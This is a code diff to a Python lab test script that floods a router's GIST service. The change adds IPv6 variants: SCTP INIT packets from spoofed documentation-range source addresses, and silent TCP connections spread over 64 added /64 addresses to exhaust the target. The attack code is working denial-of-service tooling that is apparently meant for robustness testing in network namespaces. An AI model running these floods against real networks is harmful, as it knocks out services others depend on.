@@ -7,11 +7,14 @@ TARGET is the router; what else an attack needs is at its function. It prints "s
 with the number of packets at the end. It runs in the network namespaces of the lab only: it needs a raw socket.
 """
 
+import ipaddress
+import json
 import os
 import random
 import selectors
 import socket
 import struct
+import subprocess
 import sys
 import time
 
@@ -51,6 +54,15 @@ def udp(payload, sport=GIST, dport=GIST):
 def forged():
     """An address of 198.18.0.0/15 (RFC 2544)."""
     return struct.pack("!I", 0xC6120000 | rng.getrandbits(17))
+
+
+def packet6(src, dst, protocol, payload):
+    return struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + src + dst + payload
+
+
+def forged6():
+    """An address of 2001:db8:bad::/48."""
+    return bytes.fromhex("20010db80bad") + rng.randbytes(10)
 
 
 # GIST (RFC 5971)
@@ -256,19 +268,28 @@ def inits(target):
     while True:
         chunk = struct.pack("!BBHIIHHI", 1, 0, 20, rng.getrandbits(32) | 1, 65536, 10, 10, 7)
         head = struct.pack("!HHI", rng.randrange(1024, 65535), GIST, 0)
-        yield packet(forged(), ip(target), 132, head + crc(head + b"\0\0\0\0" + chunk) + chunk)
+        octets = head + crc(head + b"\0\0\0\0" + chunk) + chunk
+        if ":" in target:
+            yield packet6(forged6(), socket.inet_pton(socket.AF_INET6, target), 132, octets)
+        else:
+            yield packet(forged(), ip(target), 132, octets)
 
 
 def send(source, seconds, rate):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw6.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
     begin, sent, refused = time.monotonic(), 0, 0
     print("started", flush=True)
     while (elapsed := time.monotonic() - begin) < seconds:
         while sent < elapsed * rate:
             octets = next(source)
             try:
-                raw.sendto(octets, (socket.inet_ntoa(octets[16:20]), 0))
+                if octets[0] >> 4 == 6:
+                    raw6.sendto(octets, (socket.inet_ntop(socket.AF_INET6, octets[24:40]), 0))
+                else:
+                    raw.sendto(octets, (socket.inet_ntoa(octets[16:20]), 0))
             except OSError:
                 refused += 1
             sent += 1
@@ -315,17 +336,34 @@ def confirm(out, message, address, asked, own, dst):
     return 1
 
 
-def connections(seconds, rate, target, *_):
-    """TCP connections to GIST's port that say nothing, as many as stay open, and new ones all the time (T14 to T16)."""
+def many_addresses(target):
+    """Further addresses of this host's own /64 towards TARGET; only [None] with IPv4."""
+    if ":" not in target:
+        return [None]
+    [route] = json.loads(subprocess.check_output(["ip", "-j", "-6", "route", "get", target]))
+    net = ipaddress.ip_network(route["prefsrc"] + "/64", strict=False)
+    addresses = [str(net[0xA0000 + number]) for number in range(64)]
+    for address in addresses:
+        subprocess.check_call(["ip", "-6", "addr", "add", f"{address}/128", "dev", route["dev"], "nodad"])
+    return addresses
+
+
+def connections(seconds, rate, target, port=GIST, *_):
+    """TCP connections to a port of GIST that say nothing, as many as stay open, and new ones all the time (T14 to T16). With
+    IPv6 they come from many addresses of one /64."""
     selector, opened, refused = selectors.DefaultSelector(), 0, 0
+    own = many_addresses(target)
+    family = socket.AF_INET6 if ":" in target else socket.AF_INET
     begin = time.monotonic()
     held = []
     print("started", flush=True)
     while (elapsed := time.monotonic() - begin) < seconds:
         while opened + refused < elapsed * rate:
-            connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            connection = socket.socket(family, socket.SOCK_STREAM)
             connection.setblocking(False)
-            result = connection.connect_ex((target, GIST))
+            if address := own[opened % len(own)]:
+                connection.bind((address, 0))
+            result = connection.connect_ex((target, int(port)))
             if result in (0, 115):
                 opened += 1
                 held.append(connection)
